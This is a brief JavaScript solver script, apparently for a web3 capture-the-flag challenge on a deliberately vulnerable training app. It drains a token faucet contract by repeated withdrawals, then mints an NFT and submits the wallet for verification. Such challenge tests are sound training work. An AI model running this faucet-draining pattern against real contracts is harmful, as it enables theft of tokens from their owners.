import { contracts, openWallet, sendBy, takesBees } from '../features/chain.js'
import { proof } from '../proof.js'

export const nftMintChallenge = proof({
  async attack(me) {
    await me.get('/rest/web3/nftMintListen')
    const wallet = await openWallet(me)
    const send = sendBy(me, wallet)
    for (let round = 0; round < 4; round += 1) await send(contracts.BeeFaucet, 'withdraw', [255])
    await send(contracts.BeeToken, 'approve', [contracts.HoneyPotNFT, (1000n * 10n ** 18n).toString()])
    await send(contracts.HoneyPotNFT, 'mintNFT')
    await me.post('/rest/web3/walletNFTVerify', { walletAddress: wallet.address })
  },
  honest: takesBees,
})
